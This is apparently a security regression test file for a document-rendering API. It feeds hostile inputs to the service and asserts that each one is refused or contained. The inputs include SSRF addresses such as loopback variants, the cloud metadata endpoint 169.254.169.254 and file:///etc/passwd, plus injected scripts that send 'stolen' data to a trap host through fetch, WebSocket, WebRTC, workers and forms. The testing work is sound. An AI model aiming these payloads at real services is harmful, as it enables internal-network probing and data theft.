/**
 * One attack of each class, so that a defence that is lost is seen at once. Every attack that is known is in
 * `test/exhaustive`; `test/fuzz` makes new ones.
 */
import { env } from 'cloudflare:test'
import { beforeAll, describe, expect, inject, it } from 'vitest'
import { newAccount } from '../../support/accounts'
import { get, post } from '../../support/http'
import { expectNeighbourServed, jsonRequest } from '../../support/neighbour'
import { hearOutgoing, trapped } from '../../support/outgoing'
import { applySchema } from '../../support/schema'
import { render } from '../../support/service'

const { site, trap, doh } = inject('origins')
const { host, port } = new URL(trap)
const loopbackName = `http://loopback.example.org:${port}/`

beforeAll(async () => {
  await applySchema()
  env.DOH_URL = `${doh}/ok?resolver=${crypto.randomUUID()}`
})

describe('an address of this machine', () => {
  it.each([
    'http://127.0.0.1/',
    'http://2130706433/',
    'http://[::ffff:127.0.0.1]/',
    'http://localhost/',
    'http://169.254.169.254/latest/meta-data',
  ])('is refused by its form in every field of a request, with nothing sent: %s', async (address) => {
    const outgoing = hearOutgoing()
    const { key } = await newAccount({ credits: 5, plan: 'Max' })
    const options = { base_url: address, attachments: [address], embed_files: [address] }
    const request = { html: '<p>x', async_mode: true, webhook_url: address, options }
    const response = await post('/v1/transform', key, request)
    expect(response.status).toBe(400)
    const { errors } = await response.json<{ errors: { pointer: string }[] }>()
    expect(errors.map(({ pointer }) => pointer)).toEqual(
      expect.arrayContaining([
        '/webhook_url',
        '/options/base_url',
        '/options/attachments/0',
        '/options/embed_files/0',
      ]),
    )
    expect(outgoing).toEqual([])
    expect(await trapped()).toEqual([])
  })

  it('is not fetched for a click, a hidden part, a formula or a diagram', async () => {
    const html = `<!doctype html><a id="a" href="${trap}">a</a><button onclick="fetch('${trap}/b'); location = '${trap}'">b</button>
      <style>#c { background: url(${trap}/c) }</style><p id="c">still here`
    const { pages } = await render(html, {
      options: { click: ['#a', 'button'], hide: [`a[href="${trap}"]`], scroll: true },
    })
    expect(pages[0]?.text).toContain('still here')
    const { key } = await newAccount({ credits: 5 })
    const diagram = [
      'flowchart LR',
      `  A@{ img: "${trap}/d", label: "x" } --> B`,
      `  click B href "${trap}/e"`,
      `  style B fill:url(${trap}/f)`,
    ]
    const markdown = [
      `$\\includegraphics{${trap}/g}$ $\\href{${trap}/h}{x}$`,
      ['```mermaid', `%%{init: {"themeCSS": "@import '${trap}/i';"}}%%`, ...diagram, '```'].join('\n'),
    ].join('\n\n')
    const answer = await post('/v1/transform', key, { markdown, goCreditMode: false })
    expect(answer.status).toBe(200)
    expect(await trapped()).toEqual([])
  })

  it.each(['file:///etc/passwd', 'http://user:secret@example.com/'])(
    'or one that no request is sent to is refused as an attachment: %s',
    async (address) => {
      const { key } = await newAccount({ credits: 5 })
      const response = await post('/v1/transform', key, { html: '<p>x', options: { attachments: [address] } })
      expect(await response.json()).toMatchObject({
        status: 400,
        errors: [{ pointer: '/options/attachments/0' }],
      })
    },
  )

  it.each([
    ['that a name leads to', loopbackName, ['dns'], /resolves to a loopback address/],
    [
      'that a redirect leads to',
      `${site}/redirect?to=${encodeURIComponent(trap)}`,
      [302, 'redirect'],
      /only public hosts/,
    ],
  ])('%s is not fetched for a page, nor for an attachment', async (_, address, outcome, reason) => {
    const outgoing = hearOutgoing()
    const { headers } = await render(`<p>x</p><img src="${address}">`)
    expect(headers.get('x-warnings')).toMatch(reason)
    const { key } = await newAccount({ credits: 5 })
    const response = await post('/v1/transform', key, { html: '<p>x', options: { attachments: [address] } })
    expect(await response.json()).toMatchObject({ status: 422, detail: expect.stringMatching(reason) })
    expect(outgoing.map(({ refused, status }) => refused ?? status)).toEqual([...outcome, ...outcome])
    expect(await trapped()).toEqual([])
  })

  it('gets no webhook by a name that leads to it', async () => {
    const { key } = await newAccount({ credits: 5 })
    const request = { data: 'x', async_mode: true, webhook_url: loopbackName }
    expect((await post('/v1/qrcode', key, request)).status).toBe(202)
    type List = { deliveries: { attempts: { error?: string }[] }[] }
    const firstError = async () => {
      const list = await (await get('/v1/webhooks/deliveries', key)).json<List>()
      return list.deliveries[0]?.attempts[0]?.error
    }
    await expect.poll(firstError, { timeout: 45_000, interval: 250 }).toMatch(/resolves to a loopback/)
    expect(await trapped()).toEqual([])
  })
})

const markup = `<img src="${trap}/img"><svg><image href="${trap}/image"/></svg><video src="${trap}/video" poster="${trap}/poster"></video>
  <object data="${trap}/object"></object><iframe src="${trap}/frame"></iframe><link rel="preconnect" href="${trap}">
  <link rel="stylesheet" href="${trap}/sheet"><style>@import "${trap}/import"; p { background: url(${trap}/background) }</style>`

describe('a document stands as it was, and reaches no server, by', () => {
  it('its markup', async () => {
    const { text, pages } = await render(`<p>stays</p>${markup}`)
    expect(pages).toHaveLength(1)
    expect(text).toContain('stays')
    expect(await trapped()).toEqual([])
  })

  it('the markup and the scripts of its header', async () => {
    const header_html = `<b>head</b>${markup}<img src=x onerror="fetch('${trap}/error')"><script>fetch('${trap}/script')</script>`
    const { text } = await render('<p>stays</p>', {
      options: { header_html, footer_first_html: header_html },
    })
    for (const word of ['head', 'stays']) expect(text).toContain(word)
    expect(await trapped()).toEqual([])
  })

  it('a refresh', async () => {
    const html = `<meta http-equiv="refresh" content="0;url=${trap}/refresh"><p>stays</p>`
    expect((await render(html, { options: { wait_for: { ms: 300 } } })).text).toContain('stays')
    expect(await trapped()).toEqual([])
  })

  it.each([
    ['a request', `fetch('${trap}/fetch', { method: 'POST', body: 'stolen' })`],
    ['a socket', `new WebSocket('ws://${host}/socket')`],
    [
      'a peer connection',
      `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }] })
       peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))`,
    ],
    ['a worker', `new Worker(URL.createObjectURL(new Blob(['fetch("${trap}/worker")'])))`],
    [
      'a frame',
      `document.body.append(Object.assign(document.createElement('iframe'), { src: '${trap}/frame' }))`,
    ],
    ['a window', `open('${trap}/open')`],
    ['a form', 'document.forms[0].submit()'],
    ['location', `location = '${trap}/location'`],
    ['a file of this machine', `location = 'file:///etc/passwd'`],
  ])('%s of its scripts', async (_, script) => {
    const html = `<p>stays</p><form action="${trap}/form" method="post"></form><script>try { ${script} } catch {}</script>`
    const { text, pages } = await render(html, { options: { wait_for: { ms: 150 } } })
    expect(pages).toHaveLength(1)
    expect(text).toContain('stays')
    expect(await trapped()).toEqual([])
  })

  it('windows and frames without end, which leave the next document alone', async () => {
    await render(`<p>x</p><script>for (let n = 0; n < 300; n++) {
      open('about:blank', 'w' + n); document.body.append(document.createElement('iframe')) }</script>`)
    expect((await render('<p>next')).text.trim()).toBe('next')
  })
})

it('a request that is costly to read keeps no neighbour waiting', async () => {
  const { key } = await newAccount({ plan: 'Max', credits: 100 })
  const names = Object.fromEntries(Array.from({ length: 20_000 }, (_, index) => [`marginn${index}`, 1]))
  await expectNeighbourServed(key, {
    hostile: jsonRequest('/v1/transform', { html: '<p>x', options: names }),
    plain: jsonRequest('/v1/transform', { html: 'x'.repeat(300_000), options: { scale: 9 } }),
    status: 400,
  })
})
